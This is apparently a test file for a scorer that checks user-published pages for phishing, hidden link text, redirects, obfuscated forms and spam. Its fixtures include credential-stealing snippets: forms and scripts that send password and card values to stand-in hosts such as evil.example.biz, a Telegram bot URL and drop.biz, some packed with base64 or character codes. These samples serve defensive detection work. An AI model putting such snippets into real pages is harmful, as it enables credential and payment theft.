import { describe, expect, test } from "bun:test"
import { inspect } from "./inspect"
import { NO_HISTORY } from "./item"
import { scoreOf, THRESHOLDS, verdictOf } from "./score"

const review = (html: string, title = "My page") => scoreOf(inspect({ title, html }))
const codes = (html: string, title?: string) => review(html, title).signals.map(({ code }) => code)

const PASSWORD = '<input name="user"><input type="password">'

describe("the score of a page", () => {
  test.each([
    ["a game", "<canvas></canvas><script>const best = localStorage.best ?? 0</script>"],
    ["links to where everyone links", '<a href="https://en.wikipedia.org/wiki/Owl">owls</a>'],
    ["a closed dialog", '<div style="display:none"><p>Game over</p><button>Again</button></div>'],
    [
      "a picture in base64",
      `<script>img.src = "data:;base64," + atob("${"A".repeat(60)}")</script>`,
    ],
    ["a way to sign in", '<button>Sign in with Google</button><a href="/login">or here</a>'],
    [
      "a key to type in",
      '<input type="password" id="api-key"><script>fetch("https://api.openai.com/v1")</script>',
    ],
    ["other languages", "<p>Лучшие сказки для детей. 我喜欢看书。 오늘은 날씨가 좋아요.</p>"],
    ["a slot machine for fun", "<h1>Lucky casino</h1><p>Spin for the jackpot</p>"],
  ])("%s is nothing to look at", (_, html) => {
    expect(review(html)).toEqual({ score: 0, signals: [] })
  })

  test.each([
    [
      "a form that posts a password elsewhere",
      "secret-sent-away",
      `<form action="https://evil.example.biz/x.php">${PASSWORD}</form>`,
    ],
    [
      "a script that does",
      "secret-sent-away",
      `${PASSWORD}<script>fetch("https://api.telegram.org/bot1:A/sendMessage?text=" + p.value)</script>`,
    ],
    [
      "a picture that does",
      "secret-sent-away",
      `${PASSWORD}<script>new Image().src = "//drop.biz/?p=" + p.value</script>`,
    ],
    [
      "a card number",
      "secret-sent-away",
      '<form action="https://evil.biz"><input placeholder="Card number"><input name="cvv"></form>',
    ],
    [
      "a brand with a password",
      "borrowed-name",
      `<h1>Wells Fargo</h1><form action="/x">${PASSWORD}</form>`,
    ],
    [
      "pressure with a password",
      "pressure",
      `<p>Please verify your identity within 24 hours</p><form action="/x">${PASSWORD}</form>`,
    ],
    ["a wallet's phrase", "secret-asked", "<p>Enter your seed phrase</p><textarea></textarea>"],
    [
      "hidden links",
      "hidden-text",
      '<div style="left: -9999px"><a href="https://a.biz">a</a><a href="https://b.biz">b</a></div>',
    ],
    [
      "links in a closed element that nothing opens",
      "hidden-text",
      '<div style="display:none"><a href="https://a.biz">a</a><a href="https://b.biz">b</a></div>',
    ],
    [
      "many links in closed elements",
      "hidden-text",
      `<script>open()</script><div style="display:none">${Array.from({ length: 12 }, (_, n) => `<a href="https://a${n}.biz">a</a>`).join("")}</div>`,
    ],
    [
      "words without size",
      "hidden-text",
      `<p style='font-size:0'>${"cheap shoes ".repeat(30)}</p>`,
    ],
    [
      "white words on white",
      "hidden-text",
      `<p style="color:#fff;background:#FFF">${"cheap shoes ".repeat(30)}</p>`,
    ],
    [
      "a refresh to elsewhere",
      "redirect",
      '<meta http-equiv="refresh" content="0;url=https://shop.biz/">',
    ],
    [
      "a jump to elsewhere",
      "redirect",
      '<script>window.location.replace("https://shop.biz")</script>',
    ],
    ["look-alike letters", "disguised-letters", "<p>Play in our online cаsino</p>"],
    [
      "a packed form",
      "unpacked-page",
      `<script>document.write(atob("${btoa(`<form action="https://evil.biz">${PASSWORD}</form>`)}"))</script>`,
    ],
    [
      "an advert",
      "advert",
      '<p>Buy cheap viagra without prescription</p><a href="https://pills.biz">Order now</a>',
    ],
  ])("%s raises %s", (_, code, html) => {
    expect(codes(html)).toContain(code as never)
  })

  test("what a script unpacks is looked at as the page", () => {
    const form = `<form action="https://evil.biz/">${PASSWORD}</form>`
    const percent = [...form].map((c) => `%${c.charCodeAt(0).toString(16)}`).join("")
    const list = [...form].map((c) => c.charCodeAt(0)).join(", ")
    for (const packed of [
      `atob("${btoa(form)}")`,
      `unescape('${percent}')`,
      `String.fromCharCode(${list})`,
    ])
      expect(codes(`<body><script>document.write(${packed})</script>`)).toContain(
        "secret-sent-away",
      )
  })

  test("a page that quotes fake messages and can send nothing is not held", () => {
    const html = `<p>“PayPal: your account has been suspended, verify your identity”</p><label>Test a password: <input type="password"></label>`
    expect(verdictOf(review(html, "Spot the fake"))).toBe("publish")
  })

  test("a dialog with credits and a menu for phones hide nothing", () => {
    const credits = ["kenney.biz", "anna.dev", "kim.page"]
      .map((host) => `<a href="https://${host}">${host}</a>`)
      .join(" ")
    for (const html of [
      `<button onclick="c.style.display='block'">Credits</button><div id="c" style="display:none">${credits}</div>`,
      '<nav style="display:none"><a href="https://github.com/x">Code</a><a href="https://mastodon.social/@x">Me</a></nav>',
    ])
      expect(codes(html)).not.toContain("hidden-text")
  })

  test("the site's own domains are no one else's", () => {
    const html = `<form action="https://games.example.biz/x">${PASSWORD}</form>`
    const { signals } = scoreOf(inspect({ title: "Door", html }, new Set(["example.biz"])))
    expect(signals.map(({ code }) => code)).toEqual(["secret-asked"])
  })

  test("names in a script are no claim, and those before a way to sign in are none either", () => {
    const html = `<form action="/login">${PASSWORD}</form><button>Sign in with Google</button><script>const makers = ["Microsoft", "PayPal"]</script>`
    expect(codes(html)).toEqual(["secret-asked"])
  })

  test("domains are all that a page links, redirects or sends to, but not where everyone links", () => {
    const html = `<a href="https://www.one.co.uk:8080/a">a</a><a href='//two.biz'>b</a><a href="https://github.com/x">c</a>
      <form action="https://ada@three.biz/x">${PASSWORD}</form><script>location.href = "https://four.biz"</script>`
    const { domains } = inspect({ title: "Links", html })
    expect([...domains].sort()).toEqual(["four.biz", "one.co.uk", "three.biz", "two.biz"])
  })

  test("what a script may show counts as an advert", () => {
    const html = `<script>root.innerHTML = "<h1>Online casino</h1><p>Free spins, no deposit, real money</p><a href='https://spin.biz'>Play now</a>"</script>`
    expect(codes(html)).toContain("advert")
  })

  test("posts are read as pages are", () => {
    const text = "Play online slots for real money, claim your free spins: https://spin.biz"
    expect(verdictOf(scoreOf(inspect({ title: "Best online casino", text })))).toBe("hold")
    expect(scoreOf(inspect({ title: "A question", text: "How do I draw a circle?" })).score).toBe(0)
  })

  test("every sign has a weight and a sentence, the strongest first, and the sum ends at 100", () => {
    const html = `<h1>Chase</h1><p>Verify your identity</p><form action="https://evil.biz">${PASSWORD}</form>`
    const around = { ...NO_HISTORY, removedCopies: 1, isFirst: true, newDomains: ["evil.biz"] }
    const { score, signals } = scoreOf(inspect({ title: "Chase", html, flagged: ["darn"] }), around)
    expect(score).toBe(100)
    const weights = signals.map(({ weight }) => weight)
    expect(weights).toEqual([...weights].sort((a, b) => b - a))
    for (const { weight, text } of signals) {
      expect(weight).toBeGreaterThan(0)
      expect(text).toMatch(/^[A-Z“].{10,300}\.$/)
    }
  })

  test("the operator's thresholds decide", () => {
    const scored = { score: 45, signals: [] }
    expect(verdictOf(scored, THRESHOLDS)).toBe("noindex")
    expect(verdictOf(scored, { hold: 45, noindex: 20 })).toBe("hold")
    expect(verdictOf(scored, { hold: 101, noindex: 101 })).toBe("publish")
  })
})
